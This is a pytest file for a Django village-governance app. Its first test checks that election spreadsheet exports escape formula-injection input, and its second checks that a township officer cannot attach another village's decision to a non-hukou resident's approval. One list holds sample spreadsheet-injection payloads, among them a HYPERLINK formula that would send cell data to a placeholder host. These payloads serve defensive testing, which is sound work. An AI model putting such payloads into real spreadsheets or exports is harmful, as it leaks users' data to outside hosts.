"""Low findings of the security review of selfgov: the election exports' cells cannot become
formulas (L3); a non-hukou approval's decision must be of the person's own village, also for a
township-wide jurisdiction, refused with the law named (L2)."""

# ruff: noqa: F811 - fixtures are imported by name
from __future__ import annotations

import io
from datetime import date, timedelta

import pytest
from django.core.exceptions import ValidationError
from django.urls import reverse
from django.utils import timezone

from cunshe.core.jurisdiction import Jurisdiction
from cunshe.residents.codes import ResidenceStatus
from cunshe.residents.tests.conftest import clerk_j, household_a, register  # noqa: F401
from cunshe.selfgov.models.elections import Candidate, NonHukouApproval
from cunshe.selfgov.services import elections as svc
from cunshe.selfgov.tests.elections_fixtures import (  # noqa: F401
    make_decision,
    make_election,
    vote_on,
)

pytestmark = pytest.mark.django_db

NASTY = ['=HYPERLINK("http://x.example/?"&A1,"看")', "+1+cmd", "-2+3", "@SUM(1,1)", "\t=1+1"]


def _cells(content: bytes) -> list:  # type: ignore[type-arg]
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(content)).active
    return [c for row in sheet.iter_rows(min_row=2) for c in row]


def test_election_exports_never_write_formulas(client_as, cast, clerk_j, register, make_election):
    election = make_election(timezone.localdate() + timedelta(days=40))
    people = [
        register(name, date(1970, 1, 1 + n), relationship="99", seq=30 + n)
        for n, name in enumerate(NASTY)
    ]
    svc.roll_generate(actor=cast.clerk_a, jurisdiction=clerk_j, election=election)
    for n, person in enumerate(people):
        Candidate.objects.create(
            election=election, person=person, position=NASTY[-1 - n][:20], votes=n
        )
    names = {p.name for p in people}  # the register trims a leading tab from a name
    assert len({n for n in names if n.startswith(("=", "+", "-", "@"))}) == len(NASTY)
    expected = {"roll": names, "results": names | {n[:20] for n in NASTY}}
    c = client_as("clerk_a")
    for what in ("roll", "results"):
        r = c.get(reverse("selfgov:election_export", args=[election.pk, what]))
        assert r.status_code == 200
        cells = _cells(r.content)
        assert all(cell.data_type != "f" for cell in cells), what
        texts = {cell.value for cell in cells if isinstance(cell.value, str)}
        assert {"'" + text for text in expected[what]} <= texts, what
        assert not any(t.startswith(("=", "+", "-", "@", "\t")) for t in texts), what


@pytest.fixture
def newcomer(register):  # type: ignore[no-untyped-def]
    """A non-hukou resident living in village A for years."""
    return register(
        "钱外",
        date(1985, 3, 3),
        relationship="99",
        seq=7,
        status=ResidenceStatus.NON_HUKOU_HERE,
        hukou_here=False,
        since=date(2020, 1, 1),
    )


def test_a_township_wide_recorder_cannot_use_another_villages_decision(cast, newcomer):
    # A jurisdiction over the whole township (every village in it) that may run elections.
    township_j = Jurisdiction(
        prefixes=(cast.village_a.code[:9],),
        permissions=frozenset({svc.ELECTIONS, "selfgov.view"}),
        role="township_officer",
        user_id=cast.township_officer.pk,
    )
    assert township_j.covers(cast.village_b.code)
    other = make_decision(cast.village_b, cast.clerk_a)
    applied = timezone.localdate() - timedelta(days=90)
    with pytest.raises(ValidationError) as exc:
        svc.approval_record(
            actor=cast.township_officer,
            jurisdiction=township_j,
            person=newcomer,
            applied_on=applied,
            decision=other,
        )
    text = str(exc.value)
    assert "不是本村" in text and "第十三条" in text and cast.village_a.code in text
    assert not NonHukouApproval._base_manager.exists()
    # The same refusal when a decision is added to an approval recorded without one.
    approval = svc.approval_record(
        actor=cast.township_officer, jurisdiction=township_j, person=newcomer, applied_on=applied
    )
    with pytest.raises(ValidationError) as exc:
        svc.approval_decide(
            actor=cast.township_officer, jurisdiction=township_j, approval=approval, decision=other
        )
    assert "第十三条" in str(exc.value)
    approval.refresh_from_db()
    assert approval.decision_id is None
    # The person's own village's decision is accepted.
    own = make_decision(cast.village_a, cast.clerk_a)
    svc.approval_decide(
        actor=cast.township_officer, jurisdiction=township_j, approval=approval, decision=own
    )
    approval.refresh_from_db()
    assert approval.decision_id == own.pk
